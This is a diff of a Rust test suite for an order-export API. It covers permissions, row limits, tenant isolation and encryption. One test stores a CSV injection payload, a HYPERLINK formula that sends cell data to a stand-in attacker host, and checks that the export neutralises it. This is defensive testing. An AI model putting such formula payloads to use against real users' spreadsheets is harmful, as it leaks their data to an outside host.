@@ -5,11 +5,12 @@ use std::io::Read as _;
 
 use http::Method;
 use serde_json::{Value, json};
-use service::authz::{matrix::Scope, policy::Role};
+use service::access::{roles, scopes};
 use sqlx::AssertSqlSafe;
 
 use crate::support::{
-    ACME, Actor, BillingFixture, Fields, GLOBEX, Reply, TestApp, eventually, id, incident, order_body, superuser,
+    ACME, Actor, BillingFixture, Fields, GLOBEX, MATRIX, Reply, TestApp, eventually, id, incident, order_body,
+    superuser,
 };
 
 fn all_time(kind: &str) -> Value {
@@ -35,7 +36,8 @@ async fn add_orders(app: &TestApp, orders: u32) {
         "begin; set local session_replication_role = replica; set local app.tenant_id = '{}';
          insert into orders (tenant_id, id, status, shipping_speed, note, total_amount, total_currency, created_by,
                              created_at, updated_at)
-         select current_tenant(), gen_random_uuid(), 'placed', 'standard', repeat('n', 200), 549, 'EUR', 'many',
+         select palisade.current_tenant(), gen_random_uuid(), 'placed', 'standard', repeat('n', 200), 549, 'EUR',
+         'many',
                 now() - interval '1 day' - n * interval '1 second', now()
          from generate_series(1, {orders}) n;
          commit; analyze orders",
@@ -47,9 +49,9 @@ async fn add_orders(app: &TestApp, orders: u32) {
 #[tokio::test]
 async fn crypto_09_export_contains_the_period_of_the_callers_tenant() {
     let app = TestApp::start().await;
-    let auditor = app.user(Role::Auditor);
-    let admin = app.user(Role::Admin);
-    let globex = app.user_of(&GLOBEX, Role::Admin, &Scope::ALL);
+    let auditor = app.user(roles::AUDITOR);
+    let admin = app.user(roles::ADMIN);
+    let globex = app.user_of(&GLOBEX, roles::ADMIN, &scopes::ALL);
     let globex_orders = globex.get("/v1/orders?limit=100").await.ok(200);
     let listed = admin.get("/v1/orders?limit=100").await.ok(200);
     let ids = |page: &Value| -> Vec<String> {
@@ -91,7 +93,7 @@ async fn crypto_09_invoice_export_contains_payments_and_totals() {
     let fixture = BillingFixture::new(&app);
     let order = fixture.order("PEN-BLUE", 2).await;
     let issued = fixture.issue(&order).await.ok(201);
-    let exported = rows(&export(&app.user(Role::Auditor), &all_time("invoices")).await.text);
+    let exported = rows(&export(&app.user(roles::AUDITOR), &all_time("invoices")).await.text);
     let row = exported.iter().find(|row| row["id"] == issued["id"].as_str().unwrap()).unwrap();
     assert_eq!((row["status"].as_str(), row["paidAmount"].as_str()), ("open", "0"));
     assert_eq!(row["number"], issued["number"].to_string());
@@ -104,8 +106,8 @@ async fn crypto_09_csv_formulas_are_neutralised() {
     let formula = "=HYPERLINK(\"https://evil.example/?\"&A1)";
     let mut order = order_body("PEN-BLUE", 1);
     order["note"] = json!(formula);
-    let id = id(&app.user(Role::Sales).post("/v1/orders", &order).await.ok(201));
-    let exported = rows(&export(&app.user(Role::Auditor), &all_time("orders")).await.text);
+    let id = id(&app.user(roles::SALES).post("/v1/orders", &order).await.ok(201));
+    let exported = rows(&export(&app.user(roles::AUDITOR), &all_time("orders")).await.text);
     let row = exported.iter().find(|row| row["id"] == id).unwrap();
     assert_eq!(row["note"], format!("'{formula}"));
 }
@@ -113,21 +115,21 @@ async fn crypto_09_csv_formulas_are_neutralised() {
 #[tokio::test]
 async fn crypto_09_export_needs_scope_and_permission() {
     let app = TestApp::start().await;
-    for role in [Role::Viewer, Role::Sales, Role::Billing] {
+    for role in [roles::VIEWER, roles::SALES, roles::BILLING] {
         let reply = export(&app.user(role), &all_time("orders")).await;
         assert_eq!(reply.problem(403), "forbidden");
         assert!(reply.events().iter().any(|event| event["event"] == "authz_fail"), "{role:?}");
     }
-    let without = Scope::ALL.into_iter().filter(|scope| *scope != Scope::ExportsCreate).collect::<Vec<_>>();
-    let reply = export(&app.user_of(&ACME, Role::Auditor, &without), &all_time("orders")).await;
+    let without = scopes::ALL.into_iter().filter(|scope| *scope != scopes::EXPORTS_CREATE).collect::<Vec<_>>();
+    let reply = export(&app.user_of(&ACME, roles::AUDITOR, &without), &all_time("orders")).await;
     assert_eq!(reply.problem(403), "insufficient_scope");
-    assert!(!Scope::ExportsCreate.is_for_keys());
+    assert!(!MATRIX.key_scopes().contains(&scopes::EXPORTS_CREATE));
 }
 
 #[tokio::test]
 async fn crypto_09_export_over_the_row_limit_is_rejected() {
     let app = TestApp::start_with(&[("APP_EXPORTS__MAX_ROWS", "2000")]).await;
-    let auditor = app.user(Role::Auditor);
+    let auditor = app.user(roles::AUDITOR);
     add_orders(&app, 2_001).await;
     let reply = export(&auditor, &all_time("orders")).await;
     assert_eq!(reply.faults(), ["/from too_many_rows"]);
@@ -139,7 +141,7 @@ async fn crypto_09_export_over_the_row_limit_is_rejected() {
 async fn crypto_09_export_events_count_the_rows_even_of_a_partial_export() {
     let app = TestApp::start().await;
     add_orders(&app, 60_000).await;
-    let auditor = app.user(Role::Auditor);
+    let auditor = app.user(roles::AUDITOR);
     let reply = export(&auditor, &all_time("orders")).await;
     let all = rows(&reply.text).len();
     assert!(all > 60_000, "{all}");
@@ -168,7 +170,7 @@ async fn crypto_09_export_events_count_the_rows_even_of_a_partial_export() {
 /// partial export look complete.
 async fn assert_aborted(app: &TestApp, interrupt: impl AsyncFnOnce()) {
     add_orders(app, 60_000).await;
-    let auditor = app.user(Role::Auditor);
+    let auditor = app.user(roles::AUDITOR);
     let mut response = auditor.request(Method::POST, "/v1/exports").json(&all_time("orders")).send().await.unwrap();
     assert_eq!(response.status(), 200);
     response.chunk().await.unwrap().unwrap();
@@ -210,7 +212,7 @@ async fn crypto_09_export_is_aborted_when_its_caller_is_revoked() {
 async fn crypto_09_export_is_encrypted_for_the_recipient() {
     let app = TestApp::start().await;
     add_orders(&app, 1_500).await;
-    let auditor = app.user(Role::Auditor);
+    let auditor = app.user(roles::AUDITOR);
     let identity = age::x25519::Identity::generate();
     let mut request = all_time("orders");
     let plain = export(&auditor, &request).await.text;
